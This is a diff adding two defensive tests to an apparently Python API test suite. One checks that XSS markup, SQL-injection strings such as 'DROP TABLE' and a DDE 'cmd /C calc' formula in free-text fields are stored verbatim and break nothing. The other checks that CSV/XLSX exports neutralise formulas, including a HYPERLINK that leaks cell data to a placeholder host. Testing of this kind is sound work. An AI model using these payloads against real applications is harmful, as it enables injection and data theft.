@@ -1020,6 +1020,112 @@ def refused_uploads_leave_no_file():
           "row refers to it)")
 
 
+# ---------------------------------------------------------------- hostile text
+
+# Markup and SQL in every free-text field the API takes; the browser side is
+# tests/e2e/security.test.mjs.
+HOSTILE_TEXT = ("<img src=x onerror=\"window.__xss=1\"> <script>window.__xss=1</script> "
+                "\"><svg onload=window.__xss=1> javascript:window.__xss=1 "
+                "'; DROP TABLE answer;-- ' OR '1'='1 Robert'); DROP TABLE user;-- "
+                "=cmd|' /C calc'!A0 \\ % _ \u00e9\u4e2d\U0001f512")
+
+
+def table_counts():
+    with sqlite3.connect(f"file:{os.path.join(CFG.data, 'cybercap.db')}?mode=ro", uri=True,
+                         timeout=10) as con:
+        names = [n for (n,) in con.execute(
+            "SELECT name FROM sqlite_master WHERE type='table' ORDER BY name")]
+        return {n: con.execute(f'SELECT COUNT(*) FROM "{n}"').fetchone()[0] for n in names}
+
+
+@test
+def sql_and_markup_in_free_text_read_back_byte_for_byte():
+    """Campaign title, answer comment, evidence link and file name, review
+    comments, user name and e-mail: stored and read back exactly; nothing
+    else in the database changes (the store binds every value)."""
+    camp = "sq-2028"
+    before = table_counts()
+    published = ANON.get(f"{API}/campaigns/{PUBLISHED}/results").body
+    an, fp = who("analyst"), who("focal_xaa")
+    title = "Title " + HOSTILE_TEXT
+    r = an.post(API + "/campaigns", {"id": camp, "framework": FW, "title": title, "year": 2028,
+                                     "units": ["XAA"]})
+    expect(r, 201, what="a campaign with a hostile title")
+    eq(r.json()["title"], title, "the title in the 201")
+    expect(an.post(f"{API}/campaigns/{camp}/status", {"status": "open"}), 200, what="open it")
+    comment = "Comment " + HOSTILE_TEXT
+    expect(fp.put(A(camp, "XAA", f"/answers/{Q_OPTIONAL}"), {"answer": "yes", "comment": comment}),
+           200, what="an answer with a hostile comment")
+    link = "https://example.org/?q='OR'1'='1';DROP/**/TABLE/**/answer;--&r=Robert');--"
+    expect(fp.post(A(camp, "XAA", "/evidence"), {"question": Q_OPTIONAL, "url": link}), 201,
+           what="a link with SQL in it")
+    fname = "<img src=x onerror=window.__xss=1> Robert'); DROP TABLE user;-- ' OR '1'='1.pdf"
+    r = expect(upload(fp, camp, "XAA", Q_OPTIONAL, fname, pdf_bytes("hostile")), 201,
+               what="a file with a hostile name")
+    expect(fp.post(A(camp, "XAA", "/submit")), 200, what="submit")
+    query = "Query " + HOSTILE_TEXT
+    expect(an.post(A(camp, "XAA", "/reviews"), {"question": Q_OPTIONAL, "verdict": "query",
+                                               "comment": query}), 201, what="a hostile query")
+    a = status_of(fp, camp, "XAA")
+    eq(a["answers"][Q_OPTIONAL]["comment"], comment, "the comment")
+    eq(sorted((e["url"] or "", e["filename"] or "") for e in a["evidence"]),
+       sorted([(link, ""), ("", fname)]), "the link and the file name")
+    eq(a["reviews"][Q_OPTIONAL]["comment"], query, "the query")
+    h = expect(fp.get(A(camp, "XAA", f"/answers/{Q_OPTIONAL}/history")), 200, what="history").json()
+    eq([x["comment"] for x in h["history"]], [comment], "the comment in the history")
+    eq(expect(ANON.get(f"{API}/campaigns/{camp}"), 200, what="the campaign").json()["title"], title,
+       "the title read back")
+    email = "o'brien+\"<svg/onload=1>\"@test.cybercap"
+    name = "Name " + HOSTILE_TEXT
+    add_user(email, name, ("reviewer", "XAB", None))
+    me = expect(login(email).get(API + "/me"), 200, what="GET /me of the hostile user").json()
+    eq((me["user"]["email"], me["user"]["name"]), (email, name), "the user's e-mail and name")
+    # the rest of the database is as it was, plus the rows just written
+    after = table_counts()
+    eq(sorted(after), sorted(before), "the tables")
+    grew = {t for t in after if after[t] != before[t]}
+    check(all(after[t] >= before[t] for t in after if t != "session"),
+          f"rows went missing: {before} -> {after}")
+    check({"answer", "campaign", "evidence", "review", "user"} <= grew, f"rows added: {grew}")
+    eq(ANON.get(f"{API}/campaigns/{PUBLISHED}/results").body, published, "published results")
+    for e in (ROLE_EMAIL["admin"], ROLE_EMAIL["focal_xab"]):
+        login(e)
+
+
+@test
+def csv_export_neutralises_formulas_in_unit_ids():
+    """results.csv is opened in spreadsheets: a unit id starting with = + -
+    or @ (a units file may hold any) is written with a leading ', as
+    `cybercap score` writes it; the workbook holds it as text."""
+    evil = ['=HYPERLINK("http://x.invalid/?"&A1,"y")', "+1+1", "-2+3", "@SUM(A1)"]
+    path = os.path.join(CFG.tmp, "formula-units.csv")
+    with open(path, "w") as f:
+        f.write("iso3,name_en,m49_region,itu_region,ldc,lldc,sids\n")
+        for u in evil:
+            f.write('"' + u.replace('"', '""') + '",Formula unit,Africa,Africa,no,no,no\n')
+    cli_ok("init", "--data", CFG.data, "--units", path)
+    camp = "fx-2028"
+    an = who("analyst")
+    expect(an.post(API + "/campaigns", {"id": camp, "framework": FW, "title": "Formulas",
+                                        "year": 2028, "units": evil + ["XAA"]}), 201,
+           what="a campaign of formula-named units")
+    for st in ("open", "review", "closed", "published"):
+        expect(an.post(f"{API}/campaigns/{camp}/status", {"status": st}), 200, what=st)
+    import csv
+    import io
+    import zipfile
+    r = expect(ANON.get(f"{API}/campaigns/{camp}/results.csv"), 200, what="results.csv")
+    units = {row[0] for row in csv.reader(io.StringIO(r.body.decode()))}
+    eq(units, {"unit", "XAA"} | {"'" + u for u in evil}, "the unit column")
+    for line in r.body.decode().splitlines():
+        check(not re.match(r'^"?[=+\-@]', line), f"a row a spreadsheet would run: {line!r}")
+    x = expect(ANON.get(f"{API}/campaigns/{camp}/results.xlsx"), 200, what="results.xlsx")
+    z = zipfile.ZipFile(io.BytesIO(x.body))
+    sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
+    eq(sum(z.read(n).count(b"<f") for n in sheets), 0, "formulas in the workbook")
+    check(b"=HYPERLINK(" in z.read("xl/sharedStrings.xml"), "the unit id as a text cell")
+
+
 # ---------------------------------------------------------------- OpenAPI
 
 
